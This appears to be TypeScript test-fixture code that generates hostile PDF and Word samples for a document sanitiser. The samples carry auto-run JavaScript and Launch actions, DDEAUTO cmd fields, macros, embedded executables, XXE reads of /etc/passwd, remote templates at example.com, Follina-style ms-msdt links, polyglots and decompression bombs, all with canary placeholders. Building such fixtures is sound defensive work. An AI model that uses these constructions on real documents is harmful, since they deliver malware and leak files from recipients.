import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import events from 'node:events';
import { buffer } from 'node:stream/consumers';
import { createDeflate, deflateSync } from 'node:zlib';
import type { SampleFile } from './clean-files.ts';
import {
  type Files,
  bodyOf,
  compound,
  contentTypesOf,
  docStreams,
  packed,
  paragraph,
  pdfObjects,
  pdfOf,
  relationsOf,
  sheetFiles,
  wordFiles,
  wordStream,
} from './documents.ts';

/** Stands in whatever a file would do: nothing that is kept may hold it. */
export const CANARY = 'CANARY-payload';
export const PROGRAM = Buffer.from(`MZ\u0090\u0000${CANARY}${'\u0000'.repeat(200)}`, 'latin1');
const SCRIPT = `(app.alert\\('${CANARY}'\\))`;

const pdf = (title: string, bytes: Buffer, name = 'contract.pdf'): SampleFile => ({
  title: `PDF ${title}`,
  name,
  bytes,
});

/** PDFs that would do something, hide something or take something over. */
export async function hostilePdfs(): Promise<SampleFile[]> {
  const whole = pdfOf(pdfObjects());
  const actions = {
    'a script': `/S /JavaScript /JS ${SCRIPT}`,
    'a script in disguise': `/S /J#61vaScript /JS ${SCRIPT}`,
    'a script by another key': `/S /Rendition /J#53 ${SCRIPT}`,
    'a program': '/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>',
    'a program in disguise': '/S /#4caunch /F (cmd.exe)',
    'foreign data': '/S /ImportData /F (http://example.com/x.fdf)',
    'a film that runs': '/S /RichMediaExecute /TA 9 0 R /CMD << /C (play) >>',
  };
  const places = {
    'when it is opened': (action: string) => pdfObjects({ catalog: `/OpenAction << ${action} >>` }),
    'when it is printed': (action: string) => pdfObjects({ catalog: `/AA << /WP << ${action} >> >>` }),
    'when a page is seen': (action: string) => pdfObjects({ page: `/AA << /O << ${action} >> >>` }),
    'behind a link': (action: string) =>
      pdfObjects({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]` }),
    'in an object of its own': (action: string) => [
      ...pdfObjects({ catalog: '/OpenAction 6 0 R' }),
      `<< /Type /Action ${action} >>`,
    ],
  };
  const active = Object.entries(actions).flatMap(([what, action]) =>
    Object.entries(places).map(([where, objects]) => pdf(`with ${what} ${where}`, pdfOf(objects(action)))),
  );
  const content = `<< /Length 4 >>\nstream\n${CANARY.slice(0, 4)}\nendstream`;
  const inside = [
    pdf(
      'with a named script',
      pdfOf([...pdfObjects({ catalog: '/Names << /JavaScript 6 0 R >>' }), '<< /Names [] >>']),
    ),
    pdf(
      'with a file',
      pdfOf([
        ...pdfObjects({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>' }),
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        content,
      ]),
    ),
    pdf(
      'with a file that nothing names',
      pdfOf([...pdfObjects(), content.replace('<<', '<< /Type /EmbeddedFile')]),
    ),
    pdf(
      'with a pinned file',
      pdfOf(pdfObjects({ page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]' })),
    ),
    pdf(
      'with a film',
      pdfOf(pdfObjects({ page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]' })),
    ),
    pdf('with a form of scripts', pdfOf([...pdfObjects({ catalog: '/AcroForm << /XFA 6 0 R >>' }), content])),
    pdf(
      'with a form of scripts in parts',
      pdfOf(pdfObjects({ catalog: '/AcroForm << /Fields [] /X#46A [(a) (b)] >>' })),
    ),
  ];
  const broken = [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.98].map((share) =>
    pdf(`cut off at ${share}`, whole.subarray(0, Math.floor(whole.length * share))),
  );
  const behind = [
    ['a program', PROGRAM],
    ['a package', packed({ 'a.js': CANARY })],
    ['a page', Buffer.from(`<html><script>${CANARY}</script>`)],
    ['a shell script', Buffer.from(`\n#!/bin/sh\necho ${CANARY}\n`)],
  ] as const;
  const polyglots = [
    ...behind.map(([what, more]) => pdf(`with ${what} behind its end`, Buffer.concat([whole, more]))),
    ...behind.map(([what, more]) => pdf(`with ${what} before its beginning`, Buffer.concat([more, whole]))),
    pdf('that is a package too', packedWithin()),
  ];
  const odd = [
    pdf(
      'without pages',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    ),
    pdf('that is only a beginning and an end', Buffer.from('%PDF-1.7\n%%EOF\n')),
    pdf('of noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(5000), Buffer.from('\n%%EOF')])),
    pdf('nested without end', pdfOf([...pdfObjects(), '['.repeat(50_000) + ']'.repeat(50_000)])),
  ];
  return [
    ...active,
    ...inside,
    ...hostileForms(),
    ...hostileParts(),
    ...broken,
    ...polyglots,
    ...odd,
    ...(await hiddenInStreams()),
  ];
}

/** What is wrong in a form too, whose scripts are taken out where they only help to fill it in. */
function hostileForms(): SampleFile[] {
  const action = `<< /S /JavaScript /JS ${SCRIPT} >>`;
  const form = (title: string, { catalog = '', page = '', form: more = '', rest = [] as string[] }) =>
    pdf(
      `of a form ${title}`,
      pdfOf([
        ...pdfObjects({
          catalog: `/AcroForm << /Fields [6 0 R] ${more} >> ${catalog}`,
          page: `/Annots [6 0 R] ${page}`,
        }),
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /AA << /F ${action} >> /Rect [0 0 9 9] >>`,
        ...rest,
      ]),
    );
  return [
    form('with a script when it is opened', { catalog: `/OpenAction ${action}` }),
    form('with a script when it is opened, behind another', {
      catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next ${action} >>] >>`,
    }),
    form('with a script when it is saved', { catalog: `/AA << /WS ${action} >>` }),
    form('with a script when a page is seen', { page: `/AA << /O ${action} >>` }),
    form('that starts a program', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    form('that sends itself when it is opened', {
      catalog: '/OpenAction << /S /SubmitForm /F (http://example.com/) >>',
    }),
    form('that is signed', { rest: ['<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>'] }),
    form('that its scripts draw', { form: '/XFA [(a) (b)]', catalog: '/NeedsRendering true' }),
  ];
}

/** What is fetched when it is opened, and what stands inside that would not be taken alone. */
function hostileParts(): SampleFile[] {
  const holding = (name: string, content: string | Buffer) => {
    const text = Buffer.from(content).toString('latin1');
    return pdf(
      `with ${name} in it`,
      pdfOf([
        ...pdfObjects({ catalog: `/Names << /EmbeddedFiles << /Names [(${name}) 6 0 R] >> >>` }),
        `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
        `<< /Type /EmbeddedFile /Length ${text.length} >>\nstream\n${text}\nendstream`,
      ]),
    );
  };
  const annotation = (title: string, words: string) =>
    pdf(title, pdfOf(pdfObjects({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${words} >>]` })));
  return [
    holding('a.exe', PROGRAM),
    holding('a.xml', PROGRAM),
    holding('a.png', PROGRAM),
    holding('a.html', `<script>${CANARY}</script>`),
    holding('a.txt', `<html><script>${CANARY}</script>`),
    holding('a.txt', `#!/bin/sh\necho ${CANARY}`),
    holding('a.js', CANARY),
    holding('a.bat', CANARY),
    holding('a.svg', `<svg xmlns="http://www.w3.org/2000/svg"/>`),
    holding('a.xml', `<a xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${CANARY}</x:script></a>`),
    holding('a.xml', '<?xml-stylesheet href="http://example.com/a.xsl"?><a/>'),
    holding('a.xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    holding('a.zip', packed({ 'a.js': CANARY })),
    holding('a.docm', packed(wordFiles({ 'word/vbaProject.bin': CANARY }))),
    holding('a.doc', compound(docStreams({ 'Macros/VBA/dir': CANARY }))),
    holding('a.pdf', pdfOf(pdfObjects({ catalog: `/OpenAction << /S /JavaScript /JS ${SCRIPT} >>` }))),
    annotation(
      'with a film of another machine',
      '/Subtype /Screen /A << /S /Rendition /R << /S /MR /C << /S /MCD /D << /F (http://example.com/a.mp4) >> >> >> >>',
    ),
    annotation(
      'with a pinned file of another machine',
      '/Subtype /FileAttachment /FS << /F (\\\\\\\\far\\\\a) >>',
    ),
    annotation('with a body that runs', '/Subtype /3D /3DD << /Type /3D /OnInstantiate 4 0 R >>'),
    annotation(
      'with a field that leaves when it is seen',
      '/Subtype /Widget /AA << /PV << /S /URI /URI (http://example.com) >> >>',
    ),
    ...[
      '/S /GoToR /F (\\\\\\\\far\\\\share\\\\a.pdf) /D [0 /Fit]',
      '/S /URI /URI (http://example.com)',
      '/S /GoToE /F (http://example.com/a.pdf)',
    ].map((action) =>
      pdf(
        `that leaves by ${action.slice(3, 9)} when it is opened`,
        pdfOf(pdfObjects({ catalog: `/OpenAction << ${action} >>` })),
      ),
    ),
  ];
}

/** What only a reader that unpacks the streams of objects, or opens the lock that is no lock, can see. */
async function hiddenInStreams(): Promise<SampleFile[]> {
  const withScript = async () => {
    const made = await PDFDocument.create();
    made.addPage();
    const action = made.context.obj({ S: 'JavaScript', JS: PDFString.of(CANARY) });
    made.catalog.set(PDFName.of('OpenAction'), made.context.register(action));
    return made;
  };
  const saved = async (made: PDFDocument, useObjectStreams: boolean) =>
    Buffer.from(await made.save({ useObjectStreams }));
  const locked = await withScript();
  locked.encrypt({ ownerPassword: 'x', permissions: {} });
  const shut = await PDFDocument.create();
  shut.addPage();
  shut.encrypt({ userPassword: 'secret', ownerPassword: 'x' });
  const attached = await PDFDocument.create();
  attached.addPage();
  await attached.attach(PROGRAM, 'invoice.exe', { mimeType: 'application/octet-stream' });
  return [
    pdf('with a packed script', await saved(await withScript(), true)),
    pdf('with a locked script', await saved(locked, false)),
    pdf('with a packed file', await saved(attached, true)),
    pdf('that only a password opens', await saved(shut, false)),
  ];
}

/** A stream of objects of a few kilobytes that is most of a gigabyte once it is unpacked twice. */
async function bombPdf(): Promise<Buffer> {
  const deflate = createDeflate();
  const once = buffer(deflate);
  const zeros = Buffer.alloc(16 * 1024 * 1024, '0 ');
  for (let at = 0; at < 48; at += 1) if (!deflate.write(zeros)) await events.once(deflate, 'drain');
  deflate.end();
  const twice = deflateSync(await once).toString('latin1');
  const head = '<< /Type /ObjStm /N 9 /First 40 /Filter [/FlateDecode /FlateDecode]';
  return pdfOf([...pdfObjects(), `${head} /Length ${twice.length} >>\nstream\n${twice}\nendstream`]);
}

/** A PDF within whose comment a package ends. */
function packedWithin(): Buffer {
  const zip = packed({ 'a.js': CANARY });
  return Buffer.concat([Buffer.from('%PDF-1.7\n%'), zip, Buffer.from('\n'), pdfOf(pdfObjects())]);
}

function noise(size: number): Buffer {
  let state = 7;
  return Buffer.from(
    Array.from({ length: size }, () => (state = (state * 1_103_515_245 + 12_345) % 2_147_483_648) % 256),
  );
}

const word = (title: string, bytes: Buffer, name = 'lease.docx'): SampleFile => ({
  title: `DOCX ${title}`,
  name,
  bytes,
});
const wordWith = (title: string, more: Files, name?: string) => word(title, packed(wordFiles(more)), name);

/** Documents of Word since 2007 with macros, things from elsewhere, traps and bombs. */
export function hostileDocxs(): SampleFile[] {
  const whole = packed(wordFiles());
  const types = [
    'application/vnd.ms-word.document.macroEnabled.main+xml',
    'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
    'application/xml',
    'text/html',
  ];
  const named = {
    'word/vbaProject.bin': compound({ 'VBA/dir': CANARY }),
    'word/VBAPROJECT.BIN': compound({ 'VBA/dir': CANARY }),
    'word/vbaData.xml': '<x/>',
    'word/activeX/activeX1.xml': '<x/>',
    'word/activeX/activeX1.bin': PROGRAM,
    'customUI/customUI.xml': '<x/>',
    'word/embeddings/oleObject1.bin': compound({ '\u0001Ole10Native': PROGRAM }),
    'word/embeddings/oleObject2.bin': compound({ '_VBA_PROJECT_CUR/VBA/dir': CANARY }),
    'word/embeddings/oleObject3.bin': PROGRAM,
    'word/embeddings/a.exe': PROGRAM,
    'word/embeddings/a.docm': packed(wordFiles({ 'word/vbaProject.bin': CANARY })),
    'word/embeddings/a.xlsx': packed(sheetFiles({ 'xl/vbaProject.bin': CANARY })),
    'word/embeddings/b.xlsx': packed({ 'a.js': CANARY }),
    'word/embeddings/c.xlsx': packed(sheetFiles({ 'xl/embeddings/a.xlsx': packed(sheetFiles()) })),
    'word/embeddings/d.docx': packed(wordFiles({ 'word/media/a.png': PROGRAM })),
    'word/media/image1.png': PROGRAM,
    'word/media/image2.jpg': `<html><script>${CANARY}</script>`,
    'word/media/image3.gif': packed({ 'a.js': CANARY }),
    'word/media/image7.pdf': pdfOf(pdfObjects({ catalog: `/OpenAction << /S /JavaScript /JS ${SCRIPT} >>` })),
    'word/embeddings/old.xls': compound({ '_VBA_PROJECT_CUR/VBA/dir': CANARY }),
    'word/embeddings/old.doc': PROGRAM,
    'word/media/image4.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>${CANARY}</script></svg>`,
    'word/media/image5.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"/>`,
    'word/media/image6.svg': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
    'word/fonts/font1.odttf': PROGRAM,
    'a.zip': packed({ 'a.zip': packed({ 'a.js': CANARY }) }),
    'run.bat': CANARY,
    'script.js': CANARY,
    'page.html': `<script>${CANARY}</script>`,
    'shortcut.lnk': CANARY,
    noextension: PROGRAM,
  };
  const outside = [
    ['oleObject', 'http://example.com/a.doc'],
    ['attachedTemplate', 'http://example.com/a.dotm'],
    ['attachedTemplate', 'https://example.com/a.dotm'],
    ['attachedTemplate', '\\\\example.com\\share\\a.dotm'],
    ['attachedTemplate', 'file://example.com/share/a.dotm'],
    ['frame', 'http://example.com/'],
    ['subDocument', 'http://example.com/a.docx'],
    ['aFChunk', 'http://example.com/a.html'],
    ['externalLink', 'http://example.com/a.xlsx'],
    ['externalLinkPath', '\\\\example.com\\share\\a.xlsx'],
    ['mailMergeSource', 'http://example.com/a.xlsx'],
    ['hyperlink', 'javascript:alert(1)'],
    ['hyperlink', 'vbscript:msgbox(1)'],
    ['hyperlink', 'data:text/html,<script>alert(1)</script>'.replaceAll('<', '&lt;')],
    ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
    ['hyperlink', 'search-ms:query=a'],
    ['video', 'http://example.com/a.mp4'],
  ] as const;
  const fields = [
    '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/>',
    '<w:fldSimple w:instr="DDE excel a"/>',
    '<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>',
    '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>',
    '<w:r><w:instrText>&#68;&#68;EAUTO cmd</w:instrText></w:r>',
    '<w:r><w:instrText>ddeauto cmd</w:instrText></w:r>',
    '<w:altChunk r:id="r1"/>',
    '<w:pict><v:shape><v:imagedata src="http://example.com/pixel.png"/></v:shape></w:pict>',
    '<w:pict><v:rect><v:fill o:href="\\\\example.com\\share\\a.png"/></v:rect></w:pict>',
  ];
  const doctypes = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a SYSTEM "http://example.com/a.dtd"><a/>',
    `<!DOCTYPE a [<!ENTITY a "${'a'.repeat(99)}"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>`,
  ];
  return [
    ...types.map((type) => wordWith(`that says ${type}`, { '[Content_Types].xml': contentTypesOf(type) })),
    wordWith('that says macros elsewhere', {
      '[Content_Types].xml': contentTypesOf(
        undefined,
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
    ...Object.entries(named).map(([name, content]) => wordWith(`with ${name}`, { [name]: content })),
    ...hiddenBodies(),
    ...doubledNames(),
    ...outside.map(([type, target]) =>
      wordWith(`with ${type} at ${target}`, {
        'word/_rels/document.xml.rels': relationsOf([{ type, target, isExternal: true }]),
      }),
    ),
    ...fields.map((field) =>
      wordWith(`with ${field}`, { 'word/document.xml': bodyOf(`<w:p>${field}</w:p>`) }),
    ),
    ...doctypes.flatMap((doctype) => [
      wordWith(`with ${doctype.slice(0, 30)}`, { 'word/document.xml': doctype }),
      wordWith(`with ${doctype.slice(0, 30)} in its types`, { '[Content_Types].xml': doctype }),
      wordWith(`with ${doctype.slice(0, 30)} in two bytes a letter`, {
        'customXml/item1.xml': Buffer.from(`\ufeff${doctype}`, 'utf16le'),
      }),
    ]),
    wordWith('nested without end', {
      'word/document.xml': bodyOf('<w:a>'.repeat(5000) + '</w:a>'.repeat(5000)),
    }),
    wordWith('that is no XML', { 'word/document.xml': bodyOf('<w:p>').slice(0, -9) }),
    word('without a document', packed({ '[Content_Types].xml': contentTypesOf() })),
    word('without types', packed({ 'word/document.xml': bodyOf(paragraph('a')) })),
    word('of too many parts', packed(wordFiles(manyParts(2100, 1)))),
    word(
      'that lies about its sizes',
      lying(packed(wordFiles({ 'word/a.xml': Buffer.alloc(20_000_000, 32) }))),
    ),
    word('whose parts share their bytes', sharing()),
    word(
      'with a name that climbs',
      renamed(packed(wordFiles({ 'word/aaaaaaa.xml': '<a/>' })), 'word/aaaaaaa.xml', '../../../aa.xml.'),
    ),
    word(
      'with a name twice',
      renamed(packed(wordFiles({ 'word/document.xmk': '<a/>' })), 'word/document.xmk', 'word/document.xml'),
    ),
    word('with a name twice, in capitals', packed(wordFiles({ 'word/DOCUMENT.XML': '<a/>' }))),
    word('that is locked', locked(whole)),
    word('with a program behind its end', Buffer.concat([whole, PROGRAM])),
    word('with a program in its comment', commented(whole, PROGRAM)),
    word('with a page in its comment', commented(whole, Buffer.from(`<script>${CANARY}</script>`))),
    ...[0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.98].map((share) =>
      word(`cut off at ${share}`, whole.subarray(0, Math.floor(whole.length * share))),
    ),
  ];
}

/** What Word opens stands in a part of another name than documents have, which holds what fields start. */
export function hiddenBodies(): SampleFile[] {
  const body = Buffer.from(bodyOf(`<w:p><w:fldSimple w:instr="DDEAUTO cmd ${CANARY}"/></w:p>`));
  const font = Buffer.concat([Buffer.from('\ufeff'), body]);
  const opening = (part: string, content: Buffer, more: Files = {}) => ({
    '[Content_Types].xml': contentTypesOf(undefined, mainOverride(part)),
    '_rels/.rels': relationsOf([{ type: 'officeDocument', target: part }]),
    [part]: content,
    ...more,
  });
  const undeclared = { '[Content_Types].xml': contentTypesOf() };
  return [
    wordWith('whose body is called printerSettings1.bin', opening('word/printerSettings1.bin', body)),
    wordWith('whose body is called a font', opening('word/fonts/font1.odttf', font)),
    wordWith('whose body is called its relations', opening('word/document.rels', body)),
    wordWith('whose body is said to be nothing', opening('word/printerSettings1.bin', body, undeclared)),
    wordWith('that two parts open', {
      '[Content_Types].xml': contentTypesOf(undefined, mainOverride('word/printerSettings1.bin')),
      '_rels/.rels': relationsOf(
        ['word/document.xml', 'word/printerSettings1.bin'].map((target) => ({
          type: 'officeDocument',
          target,
        })),
      ),
      'word/printerSettings1.bin': body,
    }),
    wordWith('whose header is called printerSettings1.bin', {
      'word/printerSettings1.bin': body,
      'word/_rels/document.xml.rels': relationsOf([{ type: 'header', target: 'printerSettings1.bin' }]),
    }),
    wordWith('with a part that is said to be two things', {
      '[Content_Types].xml': contentTypesOf(
        undefined,
        mainOverride('word/document.xml').replace('document.main', 'styles'),
      ),
    }),
  ];
}

/** An attribute stands under two prefixes, and the harmless one last. */
export function doubledNames(): SampleFile[] {
  const rels = (relation: string) => ({
    'word/_rels/document.xml.rels': relationsOf([]).replace(
      '</Relationships>',
      `<Relationship xmlns:x="urn:x" Id="r1" ${relation}/></Relationships>`,
    ),
  });
  const template =
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"';
  const far = 'Target="http://example.com/a.dotm"';
  const body = (content: string) => ({
    'word/document.xml': bodyOf(`<w:p xmlns:x="urn:x">${content}</w:p>`),
  });
  return [
    wordWith(
      'with a template said to be inside',
      rels(`${template} ${far} TargetMode="External" x:TargetMode=""`),
    ),
    wordWith(
      'with a template at two places',
      rels(`${template} ${far} x:Target="a.dotm" TargetMode="External"`),
    ),
    wordWith('with a field of two instructions', body('<w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE"/>')),
    wordWith(
      'with a picture at two places',
      body('<w:pict><v:imagedata src="http://example.com/pixel.png" x:src=""/></w:pict>'),
    ),
    wordWith('with a drawing that runs under two prefixes', {
      'word/media/image9.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="urn:x"><a href="javascript:${CANARY}" x:href="#"/></svg>`,
    }),
    wordWith('with a part that is two things under two prefixes', {
      '[Content_Types].xml': contentTypesOf(
        undefined,
        '<Default xmlns:x="urn:x" Extension="bin" ContentType="application/vnd.ms-office.vbaProject" x:ContentType="image/png"/>',
      ),
    }),
  ];
}

const mainOverride = (part: string) =>
  `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`;

/** Small files that unpack to what no host should hold. Slow to make. */
export const bombs = async (): Promise<SampleFile[]> => [
  pdf('that unpacks to a gigabyte', await bombPdf()),
  word('that unpacks to 120 MB', packed(wordFiles({ 'word/a.xml': Buffer.alloc(120 * 1024 * 1024, 32) }))),
  word('of many parts that unpack to 120 MB', packed(wordFiles(manyParts(12, 10 * 1024 * 1024)))),
];

const manyParts = (count: number, size: number): Files =>
  Object.fromEntries(
    Array.from({ length: count }, (_, at) => [`word/part${at}.xml`, Buffer.alloc(size, 32)]),
  );

/** The same bytes with every place of a text changed to another of the same length. */
function renamed(bytes: Buffer, from: string, to: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replaceAll(from, to), 'latin1');
}

const CENTRAL = Buffer.from('PK\u0001\u0002', 'latin1');
const END = Buffer.from('PK\u0005\u0006', 'latin1');

/** Changes every entry of the list of a package. */
function relisted(bytes: Buffer, change: (entry: Buffer) => void): Buffer {
  const copy = Buffer.from(bytes);
  for (let at = copy.indexOf(CENTRAL); at >= 0; at = copy.indexOf(CENTRAL, at + 4)) change(copy.subarray(at));
  return copy;
}

/** Every part says that it is one kilobyte. */
const lying = (bytes: Buffer) => relisted(bytes, (entry) => entry.writeUInt32LE(1024, 24));
const locked = (bytes: Buffer) =>
  relisted(bytes, (entry) => entry.writeUInt16LE(entry.readUInt16LE(8) | 1, 8));

/** Every entry but the first three names the bytes of one part. */
function sharing(): Buffer {
  const filling = Buffer.from(Array.from({ length: 4000 }, (_, at) => (at * at) % 251));
  const parts = Object.fromEntries(
    Array.from({ length: 30 }, (_, at) => [`word/part${at}.xml`, at === 0 ? filling : Buffer.alloc(1)]),
  );
  const bytes = packed(wordFiles(parts), { level: 0 });
  const text = bytes.toString('latin1');
  const place = text.indexOf('word/part0.xml') - 30;
  return relisted(bytes, (entry) => {
    const name = entry.toString('latin1', 46, 46 + entry.readUInt16LE(28));
    if (!/part[1-9]/.test(name)) return;
    entry.writeUInt32LE(filling.length, 20);
    entry.writeUInt32LE(filling.length, 24);
    entry.writeUInt32LE(place, 42);
  });
}

function commented(bytes: Buffer, comment: Buffer): Buffer {
  const copy = Buffer.concat([bytes, comment]);
  copy.writeUInt16LE(comment.length, bytes.lastIndexOf(END) + 20);
  return copy;
}

const old = (title: string, bytes: Buffer): SampleFile => ({
  title: `DOC ${title}`,
  name: 'memo.doc',
  bytes,
});

/** Documents of older programs with macros and packed files, and what only looks like one. */
export function hostileDocs(): SampleFile[] {
  const whole = compound(docStreams());
  const more: Record<string, Files> = {
    'with macros': { 'Macros/VBA/dir': CANARY, 'Macros/PROJECT': CANARY },
    'with macros in small letters': { 'macros/vba/dir': CANARY },
    'with macros elsewhere': { '_VBA_PROJECT_CUR/VBA/_VBA_PROJECT': CANARY },
    'with a project': { _VBA_PROJECT: CANARY },
    'with a packed program': { 'ObjectPool/_1/\u0001Ole10Native': PROGRAM },
    'with a package': { 'ObjectPool/_1/Package': packed({ 'a.js': CANARY }) },
    'with a control': { 'ObjectPool/_1/\u0003OCXNAME': CANARY },
    'that starts something': {
      WordDocument: wordStream(`\u0013 DDEAUTO c:\\windows\\cmd.exe "${CANARY}" \u0015`),
    },
    'that starts something, in one byte a letter': {
      WordDocument: Buffer.concat([wordStream(), Buffer.from(`\u0013DDE excel ${CANARY}`, 'latin1')]),
    },
    'that is locked': { WordDocument: wordStream('a', { flags: 0x0100 }) },
    'of no version': { WordDocument: wordStream('a', { magic: 0x1234 }) },
    'that is too short': { WordDocument: Buffer.alloc(8) },
    'of 1995 that is a template, as its macros need': {
      WordDocument: wordStream('a', { magic: 0xa5dc, flags: 0x0001 }),
    },
  };
  return [
    ...Object.entries(more).map(([title, streams]) => old(title, compound(docStreams(streams)))),
    old('that is a workbook', compound({ Workbook: Buffer.alloc(5000, 9) })),
    old('that is a show', compound({ 'PowerPoint Document': Buffer.alloc(5000, 9) })),
    old('that is a message', compound({ '__properties_version1.0': Buffer.alloc(5000, 9) })),
    old(
      'that is a locked package',
      compound({ EncryptedPackage: Buffer.alloc(5000, 9), EncryptionInfo: 'x' }),
    ),
    ...[0.02, 0.1, 0.25].map((share) =>
      old(`cut off at ${share}`, whole.subarray(0, Math.floor(whole.length * share))),
    ),
    old('of noise', Buffer.concat([whole.subarray(0, 512), noise(8000)])),
  ];
}
